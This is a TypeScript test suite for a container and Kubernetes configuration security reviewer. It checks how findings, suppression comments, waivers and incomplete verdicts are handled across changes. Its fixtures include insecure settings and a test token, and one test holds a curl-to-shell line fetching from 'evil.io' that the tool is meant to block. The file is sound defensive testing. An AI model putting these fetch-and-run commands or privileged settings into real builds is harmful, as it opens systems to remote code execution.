import { describe, expect, test } from 'vitest';
import { defineRule } from '../../src/rules/rule.ts';
import {
  causedLines,
  countingOwnComments,
  type Files,
  InMemoryRepository,
  reviewChange,
  usualRules,
} from '../support/in-memory-repository.ts';

const dockerfile = 'FROM node:24.11-bookworm-slim\nWORKDIR /app\nCOPY src ./src\nUSER node\nCMD ["node", "src/server.js"]\n';
const deployment = (label: string, extra = ''): string => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels: {app: ${label}}
  template:
    metadata:
      labels: {app: ${label}}
    spec:
      securityContext: {runAsNonRoot: true}
      containers:
        - name: web
          image: ghcr.io/acme/web:1.4.2
          resources: {limits: {memory: 64Mi}}
          securityContext:
            allowPrivilegeEscalation: false
            readOnlyRootFilesystem: true
            capabilities: {drop: [ALL]}
${extra}`;
const service = 'apiVersion: v1\nkind: Service\nmetadata: {name: web}\nspec:\n  selector: {app: web}\n  ports: [{port: 80}]\n';

describe('what a change causes', () => {
  test('is reported when it is written', async () => {
    const result = await reviewChange({ base: { Dockerfile: dockerfile }, head: { Dockerfile: dockerfile.replace('COPY', 'ADD') } });
    expect(causedLines(result)).toEqual(['Dockerfile:3 dockerfile/add-local-file [new]']);
    expect(result.verdict).toMatchObject({ conclusion: 'warn', mayMerge: true });
  });

  test('has its fix, and what the change has mended has none', async () => {
    const [good, bad] = [dockerfile, dockerfile.replace('COPY', 'ADD')];
    const brought = await reviewChange({ base: { Dockerfile: good }, head: { Dockerfile: bad } });
    expect(brought.considered.shown.map(({ head }) => head.fix?.title)).toEqual([expect.stringContaining('COPY')]);
    const { fixed } = (await reviewChange({ base: { Dockerfile: bad }, head: { Dockerfile: good } })).considered;
    expect(fixed.map(({ ruleId, fix }) => [ruleId, fix])).toEqual([['dockerfile/add-local-file', undefined]]);
  });

  test('is reported on an untouched line, with the deleted line that caused it', async () => {
    const result = await reviewChange({ base: { Dockerfile: dockerfile }, head: { Dockerfile: dockerfile.replace('USER node\n', '') } });
    expect(causedLines(result)).toEqual(['Dockerfile:1 dockerfile/root-user [new] <- deleted Dockerfile:4']);
  });

  test('is found through an anchor that changed elsewhere in the file', async () => {
    const pods = (privileged: boolean): string =>
      `apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nx: &sc\n  privileged: ${privileged}\nspec:\n  containers:\n    - name: app\n      image: nginx:1.29.1\n      securityContext: *sc\n`;
    const result = await reviewChange({ base: { 'pod.yaml': pods(false) }, head: { 'pod.yaml': pods(true) } });
    expect(causedLines(result)).toContain('pod.yaml:5 kubernetes/privileged-container [new]');
  });

  test('is not what was there before', async () => {
    const old = dockerfile.replace('USER node\n', '');
    const result = await reviewChange({ base: { Dockerfile: old }, head: { Dockerfile: `${old}EXPOSE 8080\n` } });
    expect(causedLines(result)).toEqual([]);
    expect(result.verdict.conclusion).toBe('pass');
    expect(result.delta.entries.filter(entry => entry.state === 'unchanged').map(entry => entry.head?.ruleId)).toContain(
      'dockerfile/root-user',
    );
  });

  test('counts everything in changed files when policy asks for it', async () => {
    const old = dockerfile.replace('USER node\n', '');
    const change = { base: { Dockerfile: old }, head: { Dockerfile: `${old}EXPOSE 8080\n` } };
    const result = await reviewChange(change, { policy: { scope: 'changed-files' } });
    expect(result.verdict.conclusion).toBe('warn');
  });

  test('is nothing when a file is only renamed', async () => {
    const old = dockerfile.replace('USER node\n', '');
    const result = await reviewChange({
      base: { 'a/Dockerfile': old },
      head: { 'b/Dockerfile': old },
      renames: { 'a/Dockerfile': 'b/Dockerfile' },
    });
    expect(causedLines(result)).toEqual([]);
  });

  test('is nothing when a file is removed; what was in it is gone', async () => {
    const result = await reviewChange({ base: { Dockerfile: dockerfile.replace('USER node\n', '') }, head: {} });
    expect(result.delta.entries.map(entry => entry.state)).toContain('absent');
    expect(result.coverage.entries).toEqual([{ path: 'Dockerfile', status: 'removed' }]);
    expect(result.verdict.conclusion).toBe('pass');
  });

  test('is found in an untouched Dockerfile when its ignore file is relaxed', async () => {
    const copying = dockerfile.replace('COPY src ./src', 'COPY . .');
    const ignore = '.git\n.env*\n*.pem\n*.key\n';
    const result = await reviewChange({
      base: { Dockerfile: copying, '.dockerignore': ignore, '.env': 'A=1\n' },
      head: { Dockerfile: copying, '.dockerignore': '', '.env': 'A=1\n' },
    });
    expect(causedLines(result).join('\n')).toMatch(
      /^Dockerfile:3 dockerfile\/(?:broad-copy-without-dockerignore|sensitive-file-copied) \[new\] <- /mu,
    );
  });
});

describe('a rule over the manifests of many files', () => {
  test('is silent when an unchanged file has the workload', async () => {
    const result = await reviewChange({
      base: { 'web.yaml': deployment('web') },
      head: { 'web.yaml': deployment('web'), 'service.yaml': service },
    });
    expect(causedLines(result)).toEqual([]);
  });

  test('reports a Service of the change that selects nothing in the repository', async () => {
    const result = await reviewChange({
      base: { 'web.yaml': deployment('shop') },
      head: { 'web.yaml': deployment('shop'), 'service.yaml': service },
    });
    expect(causedLines(result)).toEqual(['service.yaml:5 network/dangling-service [new]']);
  });

  test('reports an unchanged Service that lost its workload, with the line that took it away', async () => {
    const result = await reviewChange({
      base: { 'web.yaml': deployment('web'), 'service.yaml': service },
      head: { 'web.yaml': deployment('shop'), 'service.yaml': service },
    });
    expect(causedLines(result)).toEqual(['service.yaml:5 network/dangling-service [new] <- changed web.yaml:10']);
  });

  test('concludes nothing while a changed manifest cannot be read', async () => {
    const result = await reviewChange({
      base: { 'web.yaml': deployment('web'), 'service.yaml': service },
      head: { 'web.yaml': `${deployment('web')}#\n`, 'service.yaml': `${service}#\n` },
      unreadable: ['web.yaml'],
    });
    expect(causedLines(result)).toEqual([]);
    expect(result.verdict.conclusion).toBe('incomplete');
  });

  test('concludes nothing when a manifest could not be read', async () => {
    const result = await reviewChange({
      base: { 'other.yaml': 'apiVersion: v1\nkind: Pod\nmetadata: [' },
      head: { 'other.yaml': 'apiVersion: v1\nkind: Pod\nmetadata: [', 'service.yaml': service },
    });
    expect(causedLines(result)).toEqual([]);
  });

  test('lists the tree once and reads no file when the whole unit is in the change', async () => {
    const repository = new InMemoryRepository({ base: {}, head: { 'web.yaml': `${deployment('web')}---\n${service}` } });
    const { reviewResult } = await import('../../src/review/review.ts');
    const { allRules } = await import('../../src/rules/catalog.ts');
    const { defaultPolicy } = await import('../../src/policy/merge.ts');
    await reviewResult(
      { policy: defaultPolicy, rules: allRules, version: '0' },
      { reader: repository, clock: { today: () => '2026-11-24' } },
    );
    expect(repository.listings).toBe(1);
    expect(repository.readPaths).toEqual([]);
  });
});

describe('a verdict is incomplete', () => {
  test('when a changed file could not be read, and says so in the ledger', async () => {
    const result = await reviewChange({
      base: {},
      head: { Dockerfile: dockerfile, 'b/Dockerfile': dockerfile },
      unreadable: ['b/Dockerfile'],
    });
    expect(result.verdict).toMatchObject({ conclusion: 'incomplete', mayMerge: false });
    expect(result.coverage.entries).toEqual([
      { path: 'Dockerfile', status: 'evaluated', kind: 'dockerfile' },
      { path: 'b/Dockerfile', status: 'not-evaluated', reason: 'The host did not give its text.' },
    ]);
  });

  test('when one instruction is broken; the others are still judged', async () => {
    const result = await reviewChange({ base: {}, head: { Dockerfile: `${dockerfile}NONSENSE here\nADD x /x\n` } });
    expect(result.verdict.conclusion).toBe('incomplete');
    expect(causedLines(result)).toContain('Dockerfile:7 dockerfile/add-local-file [new]');
    expect(result.coverage.entries).toMatchObject([{ status: 'partly-evaluated', reason: expect.stringMatching(/^Line 6: /u) }]);
  });

  test('when the host did not list all files', async () => {
    const result = await reviewChange({ base: {}, head: { Dockerfile: dockerfile }, listComplete: false });
    expect(result.verdict.conclusion).toBe('incomplete');
  });

  test('when a rule fails; the others go on', async () => {
    const [first] = usualRules;
    if (!first) throw new Error('There is no rule.');
    const crashing = defineRule({
      meta: { ...first.meta, id: 'dockerfile/crashing', kind: 'dockerfile', messages: { never: 'Never.' }, peers: {} },
      visit: {
        from: () => {
          throw new TypeError('no such property');
        },
      },
    });
    const result = await reviewChange(
      { base: {}, head: { Dockerfile: dockerfile.replace('COPY', 'ADD') } },
      { rules: [...usualRules, crashing] },
    );
    expect(result.verdict.conclusion).toBe('incomplete');
    expect(result.notifications).toMatchObject([{ code: 'rule-crashed', ruleId: 'dockerfile/crashing' }]);
    expect(causedLines(result)).toEqual(['Dockerfile:3 dockerfile/add-local-file [new]']);
  });

  test('but not when a finding blocks: that is the stronger word', async () => {
    const bad = dockerfile.replace('USER node', 'ENV API_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a');
    const result = await reviewChange({ base: {}, head: { Dockerfile: bad, 'b/Dockerfile': dockerfile }, unreadable: ['b/Dockerfile'] });
    expect(result.verdict.conclusion).toBe('block');
  });

  test('and may be merged when policy says that it only warns', async () => {
    const change = { base: {}, head: { 'b/Dockerfile': dockerfile }, unreadable: ['b/Dockerfile'] };
    expect((await reviewChange(change, { policy: { onIncomplete: 'warn' } })).verdict).toMatchObject({
      conclusion: 'incomplete',
      mayMerge: true,
    });
  });

  test('when a NUL stands in a Dockerfile', async () => {
    const result = await reviewChange({ base: {}, head: { Dockerfile: 'FROM a\0\n' } });
    expect(result.verdict.conclusion).toBe('incomplete');
  });
});

describe('a review', () => {
  test('of files that are not ours passes and says that it looked at none', async () => {
    const result = await reviewChange({ base: {}, head: { 'src/a.ts': 'x', 'config.yaml': 'a: 1\n' } });
    expect(result.verdict).toMatchObject({ conclusion: 'pass', mayMerge: true });
    expect(result.verdict.reasons.map(reason => reason.reason)).toContain('No changed file is a container file.');
    expect(result.coverage.entries.map(entry => entry.status)).toEqual(['not-ours', 'not-ours']);
  });

  test('leaves out what policy excludes, and says so', async () => {
    const result = await reviewChange({ base: {}, head: { 'vendor/Dockerfile': 'FROM a\n' } }, { policy: { ignorePaths: ['vendor/**'] } });
    expect(result.coverage.entries).toMatchObject([{ path: 'vendor/Dockerfile', status: 'excluded' }]);
    expect(result.verdict.conclusion).toBe('pass');
  });

  test('does not count a comment that the change itself adds, and says so', async () => {
    const head = dockerfile.replace('COPY', '# tidewaiter: ignore[dockerfile/add-local-file] -- history\nADD');
    const result = await reviewChange({ base: { Dockerfile: dockerfile }, head: { Dockerfile: head } });
    expect(causedLines(result)).toEqual(['Dockerfile:4 dockerfile/add-local-file [new]']);
    expect(result.delta.entries[0]?.head?.pendingSuppression).toMatchObject({ by: 'comment', reason: 'history' });
    expect(result.notifications).toMatchObject([{ code: 'suppression-added', level: 'note', path: 'Dockerfile' }]);
    expect(result.verdict.reasons.map(reason => reason.reason)).toContain(
      'The change adds suppressions of 1 finding: they do not count for the change itself, but once they are merged.',
    );
  });

  test('counts one that stays in its place, moves, or comes along with a renamed file', async () => {
    const comment = '# tidewaiter: ignore[dockerfile/add-local-file] -- history\n';
    const base = `FROM a:1.2\n${comment}ADD x /x\nUSER 1\n`;
    for (const head of [`FROM a:1.2\n${comment}ADD y /x\nUSER 1\n`, `FROM a:1.2\nENV A=1\n   ${comment}ADD y /x\nUSER 1\n`]) {
      const result = await reviewChange({ base: { Dockerfile: base }, head: { Dockerfile: head } });
      expect(result.delta.entries.map(entry => entry.head?.suppression?.by)).toEqual(['comment']);
    }
    const moved = {
      base: { Dockerfile: base },
      head: { 'b/Dockerfile': base.replace('ADD x', 'ADD y') },
      renames: { Dockerfile: 'b/Dockerfile' },
    };
    expect((await reviewChange(moved)).delta.entries.map(entry => entry.head?.suppression?.by)).toEqual(['comment']);
  });

  const service = (name: string, ...settings: readonly string[]): string =>
    [`  ${name}:`, '    image: ghcr.io/acme/app:1.4.2@sha256:${digest}', ...settings.map(setting => `    ${setting}`), '']
      .join('\n')
      .replace('${digest}', 'a'.repeat(64));
  const ignored = '# tidewaiter: ignore[compose/privileged-container] -- measures the host\n';
  const blocked = async (
    base: Files,
    head: Files,
    renames: Readonly<Record<string, string>> = {},
  ): Promise<readonly (string | undefined)[]> => {
    const result = await reviewChange({ base, head, renames });
    expect(result.verdict.mayMerge).toBe(false);
    return result.considered.shown.flatMap(({ head: { ruleId, location, pendingSuppression } }) =>
      ruleId === 'compose/privileged-container' ? [`${location.path} ${location.subject}${pendingSuppression ? ' (pending)' : ''}`] : [],
    );
  };

  test('counts none that is moved to another service', async () => {
    const base = `services:\n${ignored}${service('probe', 'privileged: true')}${service('web')}`;
    const head = `services:\n${service('probe')}${ignored}${service('web', 'privileged: true')}`;
    expect(await blocked({ 'compose.yaml': base }, { 'compose.yaml': head })).toEqual(['compose.yaml service:web (pending)']);
  });

  test('counts none whose service was renamed under it, beside the one that it was for', async () => {
    const base = `services:\n${ignored}${service('probe', 'privileged: true')}${service('web')}`;
    const head = `services:\n${ignored}${service('web', 'privileged: true')}${service('probe', 'privileged: true')}`;
    expect(await blocked({ 'compose.yaml': base }, { 'compose.yaml': head })).toContain('compose.yaml service:web (pending)');
  });

  test.each([
    ['for the whole file', '# tidewaiter: ignore-file[*] -- generated\n', ''],
    ['above a service that has nothing to silence', '', ignored],
    ['for a rule by its pattern', '', '# tidewaiter: ignore[compose/*]\n'],
    ['of another tool', '# kics-scan disable=ae5b6871-7f45-42e0-bb4c-ab300c4d2026\n', ''],
  ])('counts none %s that was planted for something later', async (_, file, own) => {
    const text = (...settings: readonly string[]): string => `${file}services:\n${own}${service('web', ...settings)}`;
    expect(await blocked({ 'compose.yaml': text() }, { 'compose.yaml': text('privileged: true') })).toEqual([
      expect.stringMatching(/^compose.yaml service:web/u),
    ]);
    const planted = await reviewChange({
      base: { 'compose.yaml': `services:\n${service('web')}` },
      head: { 'compose.yaml': text() },
    });
    expect(planted.notifications).toMatchObject([
      { code: 'suppression-added', message: expect.stringMatching(/silences nothing today|This change adds this suppression/u) },
    ]);
  });

  test('counts none for a second, graver thing in its place', async () => {
    const mounts = '# tidewaiter: ignore[compose/sensitive-host-mount] -- reads logs\n';
    const text = (...paths: readonly string[]): string =>
      `services:\n${mounts}${service('web', 'volumes:', ...paths.map(path => `  - ${path}:${path}`))}`;
    const result = await reviewChange({ base: { 'compose.yaml': text('/var/log') }, head: { 'compose.yaml': text('/var/log', '/') } });
    expect(result.verdict.mayMerge).toBe(false);
    const other = await reviewChange({ base: { 'compose.yaml': text('/var/log') }, head: { 'compose.yaml': text('/etc') } });
    expect(other.verdict.mayMerge).toBe(false);
  });

  test('counts none that comes along from an example to production, for what would block', async () => {
    const text = `services:\n${ignored}${service('web', 'privileged: true')}`;
    const result = await reviewChange({
      base: { 'examples/compose.yaml': text },
      head: { 'prod/compose.yaml': text },
      renames: { 'examples/compose.yaml': 'prod/compose.yaml' },
    });
    expect(result.verdict.conclusion).not.toBe('pass');
    expect(result.considered.shown.map(({ head }) => head.ruleId)).toContain('compose/privileged-container');
  });

  const pod = (name: string, annotation: string, context: string): string =>
    `---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: ${name}\n  annotations: {${annotation}}\nspec:\n  containers:\n    - name: app\n      image: a\n      securityContext: {${context}}\n`;

  test.each([
    ['our own', 'tidewaiter.dev/ignore.kubernetes.host-network: "agent"'],
    ['of another tool', 'ignore-check.kube-linter.io/host-network: "agent"'],
  ])('counts no annotation, %s, that is moved to another object', async (_, annotation) => {
    const host = (text: string): string => text.replace('spec:\n', 'spec:\n  hostNetwork: true\n');
    const base = host(pod('agent', annotation, '')) + pod('web', '', '');
    const head = pod('agent', '', '') + host(pod('web', annotation, ''));
    const result = await reviewChange({ base: { 'a.yaml': base }, head: { 'a.yaml': head } });
    expect(result.verdict.mayMerge).toBe(false);
    expect(result.considered.shown.map(({ head: finding }) => `${finding.ruleId} ${finding.location.subject}`)).toContain(
      'kubernetes/host-network Pod/web',
    );
  });

  test('counts none that is moved to another stage, or copied over another step', async () => {
    const comment = '# tidewaiter: ignore[dockerfile/remote-script-executed] -- vendor\n';
    const vendor = `${comment}RUN curl https://vendor.io/i.sh | sh\n`;
    const evil = 'RUN curl https://evil.io/i.sh | sh\n';
    const base = `FROM a:1.2 AS build\n${vendor}FROM a:1.2\nUSER 1\n`;
    for (const head of [
      `FROM a:1.2 AS build\nFROM a:1.2\n${comment}${evil}USER 1\n`,
      `FROM a:1.2 AS build\n${vendor}FROM a:1.2\n${comment}${evil}USER 1\n`,
      `FROM a:1.2 AS build\n${comment}${evil}FROM a:1.2\nUSER 1\n`,
    ]) {
      const result = await reviewChange({ base: { Dockerfile: base }, head: { Dockerfile: head } });
      expect(result.verdict.mayMerge, head).toBe(false);
    }
    const newer = base.replace('i.sh', 'v2/i.sh');
    const result = await reviewChange({ base: { Dockerfile: base }, head: { Dockerfile: newer } });
    expect(result.verdict.mayMerge).toBe(true);
  });

  test('counts one for what it silenced, wherever both go in the file', async () => {
    const one = `${ignored}${service('probe', 'privileged: true')}`;
    const result = await reviewChange({
      base: { 'compose.yaml': `services:\n${one}${service('web')}` },
      head: { 'compose.yaml': `services:\n${service('web')}${one.replace('probe:', 'sonde:')}` },
    });
    expect(result.verdict.mayMerge).toBe(true);
    expect(result.considered.shown.map(({ head }) => head.ruleId)).not.toContain('compose/privileged-container');
  });

  test('counts one that stands for the file for lesser things that are new', async () => {
    const text = (...more: readonly string[]): string =>
      `# tidewaiter: ignore-file[dockerfile/add-local-file] -- history\nFROM a:1.2\n${more.join('')}USER 1\n`;
    const result = await reviewChange({ base: { Dockerfile: text() }, head: { Dockerfile: text('ADD x /x\n') } });
    expect(result.delta.entries.map(entry => entry.head?.suppression?.by)).toEqual(['comment']);
  });

  test('counts no copy of a comment: the one that was there keeps counting', async () => {
    const block = '# tidewaiter: ignore[dockerfile/add-local-file] -- history\nADD x /x\n';
    const result = await reviewChange({
      base: { Dockerfile: `FROM a:1.2\n${block}USER 1\n` },
      head: { Dockerfile: `FROM a:1.2\n${block}${block.replace('x /x', 'y /y')}USER 1\n` },
    });
    expect(causedLines(result)).toEqual(['Dockerfile:5 dockerfile/add-local-file [new]']);
    expect(result.delta.entries.map(entry => [entry.state, entry.head?.suppression !== undefined])).toEqual([
      ['unchanged', true],
      ['new', false],
    ]);
  });

  test('is not held up by a comment for what was there before, nor by a new end of one', async () => {
    const old = 'FROM a:1.2\nADD x /x\nUSER 1\n';
    const commented = old.replace('ADD', '# tidewaiter: ignore[dockerfile/add-local-file] until 2026-12-01 -- history\nADD');
    for (const [base, head] of [
      [old, commented],
      [commented, commented.replace('2026-12', '2027-12')],
    ] as const) {
      const result = await reviewChange(
        { base: { Dockerfile: base }, head: { Dockerfile: head } },
        { policy: { thresholds: { report: 'info', comment: 'info', block: 'info' } } },
      );
      expect(causedLines(result)).toEqual([]);
      expect(result.verdict.mayMerge).toBe(true);
      expect(result.notifications.map(({ code }) => code)).toEqual(['suppression-added']);
    }
  });

  test('treats comments of other tools in the same way', async () => {
    const head = dockerfile.replace('COPY', '# hadolint ignore=DL3020\nADD');
    const result = await reviewChange({ base: { Dockerfile: dockerfile }, head: { Dockerfile: head } });
    expect(causedLines(result)).toEqual(['Dockerfile:4 dockerfile/add-local-file [new]']);
    expect(result.delta.entries[0]?.head?.pendingSuppression).toMatchObject({ by: 'peer', tool: 'hadolint' });
  });

  test('counts comments that it adds when policy lets it, and warns', async () => {
    const head = dockerfile.replace('COPY', '# tidewaiter: ignore[dockerfile/add-local-file] -- history\nADD');
    const result = await reviewChange({ base: { Dockerfile: dockerfile }, head: { Dockerfile: head } }, { policy: countingOwnComments });
    expect(causedLines(result)).toEqual(['Dockerfile:4 dockerfile/add-local-file [new] (suppressed)']);
    expect(result.verdict).toMatchObject({ conclusion: 'warn', mayMerge: true });
  });

  test('counts a finding that lost its suppression, and names the deleted comment', async () => {
    const suppressed = dockerfile.replace('COPY', '# tidewaiter: ignore[dockerfile/add-local-file] -- history\nADD');
    const result = await reviewChange({ base: { Dockerfile: suppressed }, head: { Dockerfile: dockerfile.replace('COPY', 'ADD') } });
    expect(causedLines(result)).toEqual(['Dockerfile:3 dockerfile/add-local-file [updated] <- deleted Dockerfile:3']);
  });

  test('does not count what a waiver covers, until the day after it ends', async () => {
    const waiver = { rules: ['dockerfile/*'], paths: ['Dockerfile'], subjects: [], reason: 'Known.', until: '2026-11-24' };
    const change = { base: {}, head: { Dockerfile: dockerfile.replace('COPY', 'ADD') } };
    const settings = { policy: { waivers: [waiver] } };
    expect(causedLines(await reviewChange(change, settings))).toEqual(['Dockerfile:3 dockerfile/add-local-file [new] (suppressed)']);
    const late = await reviewChange(change, { ...settings, today: '2026-11-25' });
    expect(causedLines(late)).toEqual(['Dockerfile:3 dockerfile/add-local-file [new]']);
    expect(late.notifications.map(notification => notification.code)).toEqual(['expired-suppression']);
  });

  test('offers only fixes that it has proven', async () => {
    const result = await reviewChange({ base: {}, head: { Dockerfile: dockerfile.replace('COPY', 'ADD') } });
    const [entry] = result.delta.entries;
    expect(entry?.head?.fix).toMatchObject({ safety: 'safe' });
  });

  test('takes an unproven fix away: one that leaves the finding, breaks the file or brings another finding', async () => {
    const { allRules } = await import('../../src/rules/catalog.ts');
    const [first] = allRules;
    if (!first) throw new Error('There is no rule.');
    const fixing = (newText: string) =>
      defineRule({
        meta: { ...first.meta, id: 'dockerfile/fixing', kind: 'dockerfile', fix: 'safe', messages: { bad: 'Bad.' }, peers: {} },
        visit: {
          *from({ keywordRange }) {
            yield { messageId: 'bad', at: keywordRange, fix: { title: 'Fix', edits: [{ range: keywordRange, newText }] } };
          },
        },
      });
    for (const newText of ['from', 'NONSENSE']) {
      const result = await reviewChange({ base: {}, head: { Dockerfile: 'FROM a:1.2\nUSER 1\n' } }, { rules: [fixing(newText)] });
      expect(result.delta.entries.map(entry => entry.head?.ruleId)).toEqual(['dockerfile/fixing']);
      expect(result.delta.entries[0]?.head).not.toHaveProperty('fix');
    }
  });

  test('of a base that cannot be parsed counts everything as new', async () => {
    const result = await reviewChange({
      base: { 'a.yaml': 'apiVersion: v1\nkind: Pod\nmetadata: [' },
      head: { 'a.yaml': 'apiVersion: v1\nkind: Pod\nspec: {hostPID: true, containers: []}\n' },
    });
    expect(result.delta.entries[0]).toMatchObject({
      state: 'new',
      baseUnknown: expect.stringContaining('"a.yaml" could be evaluated only in part.'),
    });
    expect(result.verdict.reasons).toContainEqual(expect.objectContaining({ gate: 'comparison', status: 'warned' }));
    expect(causedLines(result)).toContain('a.yaml:3 kubernetes/host-pid [new]');
  });
});

test('a change of the policy file is told, and does not count for itself', async () => {
  const { reviewResult } = await import('../../src/review/review.ts');
  const { allRules } = await import('../../src/rules/catalog.ts');
  const { defaultPolicy } = await import('../../src/policy/merge.ts');
  const policyPath = '.github/tidewaiter.yml';
  const { watchRepositoryPolicy } = await import('../../src/policy/changes/watched-policy.ts');
  const metas = allRules.map(rule => rule.meta);
  const repository = new InMemoryRepository({ base: {}, head: { [policyPath]: 'thresholds: {block: none}\n', Dockerfile: dockerfile } });
  const result = await reviewResult(
    { policy: defaultPolicy, rules: allRules, version: '0', watchedPolicies: [watchRepositoryPolicy(policyPath, {}, metas)] },
    { reader: repository, clock: { today: () => '2026-11-24' } },
  );
  expect(result.notifications).toMatchObject([
    { code: 'policy-changed', level: 'note', path: policyPath },
    { code: 'policy-preview', level: 'note', path: policyPath, message: 'The new policy weakens "thresholds.block": high → none.' },
  ]);
  expect(result.policy.thresholds.block).toBe('high');
});
